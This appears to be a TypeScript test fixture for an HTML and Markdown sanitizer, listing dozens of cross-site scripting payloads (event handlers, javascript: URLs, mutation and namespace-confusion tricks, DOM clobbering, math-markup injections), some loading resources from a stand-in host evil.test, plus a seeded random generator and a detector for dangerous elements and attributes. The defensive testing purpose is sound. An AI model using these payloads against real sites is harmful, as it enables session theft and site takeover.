/** Texts that would run `attack()` wherever they are taken for more than text. Written by hand, one idea each. */
const HTML = [
  '<script>attack()</script>',
  '<SCRIPT SRC="https://evil.test/x.js"></SCRIPT>',
  '<scr<script>ipt>attack()</scr</script>ipt>',
  '<img src=x onerror=attack()>',
  '<img src=x:x onerror="attack()" alt="',
  '<img/src="x"/onerror="attack()">',
  '<img src=`x` onerror=attack()>',
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<svg><animate onbegin=attack() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:attack()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>attack()</script></svg>#x"/></svg>',
  '<svg><style><img src=x onerror=attack()></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=attack()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attack()&gt;">',
  '<math><annotation-xml encoding="text/html"><script>attack()</script></annotation-xml></math>',
  '<math href="javascript:attack()">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<textarea><img src=x onerror=attack()></textarea><img title="</textarea><img src=x onerror=attack()>">',
  '<title><img title="</title><img src=x onerror=attack()>">',
  '<xmp><img title="</xmp><img src=x onerror=attack()>">',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<object data="javascript:attack()"></object>',
  '<embed src="javascript:attack()">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:attack()">',
  '<base href="https://evil.test/">',
  '<style>*{background:url(https://evil.test/x)}</style>',
  '<a href="javascript:attack()">x</a>',
  '<a href="JaVaScRiPt:attack()">x</a>',
  '<a href="java\tscript:attack()">x</a>',
  '<a href="java&#10;script:attack()">x</a>',
  '<a href="&#106;avascript:attack()">x</a>',
  '<a href="\u0001javascript:attack()">x</a>',
  '<a href=" javascript:attack()">x</a>',
  '<a href="data:text/html,<script>attack()</script>">x</a>',
  '<a href="vbscript:attack()">x</a>',
  '<a href="x" onclick="attack()" onfocus="attack()" autofocus tabindex=1>x</a>',
  '<a href="x" style="position:fixed;inset:0;background:url(javascript:attack())">x</a>',
  '<a href="x" ping="https://evil.test/">x</a>',
  '<form action="javascript:attack()"><button>x</button><input type=submit></form>',
  '<button formaction="javascript:attack()">x</button>',
  '<input onfocus=attack() autofocus>',
  '<details open ontoggle=attack()><summary>x</summary></details>',
  '<video><source onerror="attack()"></video>',
  '<audio src=x onerror=attack()>',
  '<marquee onstart=attack()>x</marquee>',
  '<body onload=attack()>',
  '<p id="location"></p><p name="attributes"></p>',
  '<img name="getElementById"><form id="x"><input name="parentNode"></form>',
  '<template><script>attack()</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=attack()></template>',
  '<custom-element onclick=attack() is="x">x</custom-element>',
  '<slot onslotchange=attack()></slot>',
  '<!--><img src=x onerror=attack()>-->',
  '<![CDATA[<img src=x onerror=attack()>]]>',
  '<?xml-stylesheet href="javascript:attack()"?>',
  '<details><summary><img src=x onerror=attack()></summary></details>',
  '<table background="javascript:attack()"><td background="javascript:attack()">',
  '<img srcset="x 1x, javascript:attack() 2x" src=x>',
  '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=attack() />">',
  '<q cite="javascript:attack()">x</q>',
  '{{constructor.constructor("attack()")()}} ${attack()}',
];

const MARKDOWN = [
  '[x](javascript:attack())',
  '[x](<javascript:attack()>)',
  '[x](java\nscript:attack())',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61ttack())',
  '[x][1]\n\n[1]: javascript:attack()',
  '![x](javascript:attack())',
  '![x](x "onerror=attack()")',
  '![x" onerror="attack()](x)',
  '[x](https://a.test" onclick="attack())',
  '<javascript:attack()>',
  '```js" onclick="attack()\nx\n```',
  '```<img src=x onerror=attack()>\nx\n```',
  '| <img src=x onerror=attack()> |\n| --- |\n| [x](javascript:attack()) |',
  '$\\href{javascript:attack()}{x}$',
  '$\\includegraphics{javascript:attack()}$',
  '$\\text{<img src=x onerror=attack()>}$',
  '$$\\class{x" onclick="attack()}{y}$$',
  '$$\\data{x=y}{z} \\style{background:url(https://evil.test/)}{y}$$',
  '<code class="language-maths">\\href{javascript:attack()}{x}</code>',
  '\uE000\uE011<img src=x onerror=attack()>',
];

const URLS = [
  'javascript:attack()',
  'JAVASCRIPT:attack()',
  ' javascript:attack()',
  'java\nscript:attack()',
  'data:text/html,<script>attack()</script>',
  'data:image/svg+xml,<svg onload="attack()" xmlns="http://www.w3.org/2000/svg"/>',
  'vbscript:attack()',
  'blob:https://evil.test/x',
  'filesystem:https://evil.test/x',
  '//evil.test/" onerror="attack()',
  'url(javascript:attack())',
];

export const ATTACKS = { html: HTML, markdown: MARKDOWN, urls: URLS };

/** Numbers that look random and are the same each time: mulberry32. */
export function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** Schemes of addresses that run something. Browsers pass over control characters before them. */
const RUNS =
  // oxlint-disable-next-line no-control-regex
  /^[\s\u0000-\u001f]*(?!data:image\/(?:png|jpeg|webp|gif|avif);)(?:javascript|data|vbscript|blob|filesystem):/i;

const RUNNING = 'script, iframe, object, embed, link, meta, base, style, template, frame, applet, noscript';

/** What in a tree could run, or leave the place it is in: nothing, where all is well. */
export function dangers(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const found = element.matches(RUNNING) ? [element.outerHTML.slice(0, 120)] : [];
    for (const { name, value } of element.attributes) {
      const address = /^(?:href|src|action|formaction|xlink:href|data|srcset|background|cite|poster)$/.test(name);
      if (/^on/i.test(name) || name === 'srcdoc' || name === 'style' || (address && RUNS.test(value))) {
        found.push(`${element.localName} ${name}=${value.slice(0, 80)}`);
      }
    }
    return found;
  });
}
